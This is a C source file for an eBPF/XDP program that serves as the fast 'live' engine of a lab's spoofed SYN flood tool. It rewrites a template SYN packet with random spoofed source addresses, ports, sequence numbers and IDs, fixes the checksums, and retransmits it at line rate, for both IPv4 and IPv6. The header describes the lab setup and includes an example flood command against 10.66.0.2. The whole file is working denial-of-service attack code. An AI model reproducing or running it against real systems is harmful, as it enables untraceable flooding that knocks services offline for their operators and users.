// SPDX-License-Identifier: GPL-2.0
/*
 * syn_flood - the `live` engine of the lab's spoofed SYN flood (fastpath/labs/flood.py):
 * each run turns one template SYN into a fresh one and transmits it.
 *
 * BPF_PROG_TEST_RUN in live-frames mode hands the program a new copy of the template per
 * run; it draws a random source address (inside the spoofed network), source port,
 * sequence number and IPv4 ID, redoes the checksums and returns XDP_TX, which sends the
 * frame out of the run's interface. No socket, no skb, no copy from user space per frame.
 *
 * Techniques: fixed offsets (the template's layout is known, so no parsing), checksums
 * with bpf_csum_diff over the header and the pseudo-header, the spoofed network as -D
 * base/mask words so the C text never changes.
 * Minimum kernel: 5.18 (BPF_F_TEST_XDP_LIVE_FRAMES); some hosts refuse live frames (EPERM)
 * and the flood then uses its packet engine. The program itself loads on any kernel with
 * XDP and runs under an ordinary test run, which tests/bpf/test_syn_flood.py does.
 * Usage: loaded by fastpath.labs.flood.Flood (engine `live`), never attached.
 * Manual test: ip netns exec lab-attacker python -m fastpath.labs.flood --engine live
 *   --iface eth0 --dst-mac MAC --dst 10.66.0.2 --dport 8080 --count 1000 --seconds 2
 */
#include <uapi/linux/bpf.h>

/* Frame layout is fixed (built by fastpath/labs/flood.py:syn_frame): Ethernet, IPv4 without
 * options or IPv6 without extension headers (FLOOD_V6), TCP with one MSS option (TCP_LEN 24)
 * or with the options Linux sends (TCP_LEN 40). */
#define ETH_LEN 14
#ifndef TCP_LEN
#define TCP_LEN 24
#endif
#ifdef FLOOD_V6
#define IP_LEN 40
#else
#define IP_LEN 20
#endif

/* IPv4 spoofed network (host order): the source is SRC_BASE + (random & SRC_MASK).
 * Default 10.99.0.0/16, the lab's --src-net default. */
#ifndef SRC_BASE
#define SRC_BASE 0x0a630000U
#endif
#ifndef SRC_MASK
#define SRC_MASK 0x0000ffffU
#endif

/* IPv6 spoofed network: words 2 and 3 of the address (its low 64 bits, host order), each
 * BASE | (random & MASK); words 0 and 1 stay as the template has them. Default: a /64. */
#ifndef SRC_BASE2
#define SRC_BASE2 0U
#endif
#ifndef SRC_MASK2
#define SRC_MASK2 0xffffffffU
#endif
#ifndef SRC_BASE3
#define SRC_BASE3 0U
#endif
#ifndef SRC_MASK3
#define SRC_MASK3 0xffffffffU
#endif

static __always_inline u16 fold(s64 partial)
{
	u32 sum = (u32)partial;

	sum = (sum & 0xffff) + (sum >> 16);
	sum = (sum & 0xffff) + (sum >> 16);
	return (u16)~sum;
}

int syn_flood(struct xdp_md *ctx)
{
	void *data = (void *)(long)ctx->data;
	void *data_end = (void *)(long)ctx->data_end;
	u8 *ip = data + ETH_LEN;
	u8 *th = ip + IP_LEN;
	u32 r = bpf_get_prandom_u32(), pseudo[3];
	s64 sum;

	if ((void *)(th + TCP_LEN) > data_end)
		return XDP_ABORTED;
#ifdef FLOOD_V6
	/* saddr: the low 64 bits at random under the mask; IPv6 has no header checksum */
	*(u32 *)(ip + 16) = bpf_htonl(SRC_BASE2 | (r & SRC_MASK2));
	*(u32 *)(ip + 20) = bpf_htonl(SRC_BASE3 | (bpf_get_prandom_u32() & SRC_MASK3));
	r = bpf_get_prandom_u32();
	*(u16 *)(th + 0) = bpf_htons(1024 + (r & 0x7fff));          /* source port */
	*(u32 *)(th + 4) = bpf_get_prandom_u32();                   /* seq */
	*(u16 *)(th + 16) = 0;
	pseudo[0] = 0;
	pseudo[1] = bpf_htonl(TCP_LEN);
	pseudo[2] = bpf_htonl(6);
	sum = bpf_csum_diff(0, 0, (void *)(ip + 8), 32, 0);        /* saddr, daddr */
	sum = bpf_csum_diff(0, 0, (void *)pseudo, 12, sum);
	*(u16 *)(th + 16) = fold(bpf_csum_diff(0, 0, (void *)th, TCP_LEN, sum));
	return XDP_TX;
#else
	*(u32 *)(ip + 12) = bpf_htonl(SRC_BASE + (r & SRC_MASK));  /* saddr */
	*(u16 *)(ip + 4) = (u16)(r >> 16);                          /* id */
	*(u16 *)(ip + 10) = 0;
	*(u16 *)(ip + 10) = fold(bpf_csum_diff(0, 0, (void *)ip, IP_LEN, 0));
	r = bpf_get_prandom_u32();
	*(u16 *)(th + 0) = bpf_htons(1024 + (r & 0x7fff));          /* source port */
	*(u32 *)(th + 4) = bpf_get_prandom_u32();                   /* seq */
	*(u16 *)(th + 16) = 0;
	pseudo[0] = *(u32 *)(ip + 12);
	pseudo[1] = *(u32 *)(ip + 16);
	pseudo[2] = bpf_htonl(6 << 16 | TCP_LEN);
	sum = bpf_csum_diff(0, 0, (void *)pseudo, 12, 0);
	*(u16 *)(th + 16) = fold(bpf_csum_diff(0, 0, (void *)th, TCP_LEN, sum));
	return XDP_TX;
#endif
}
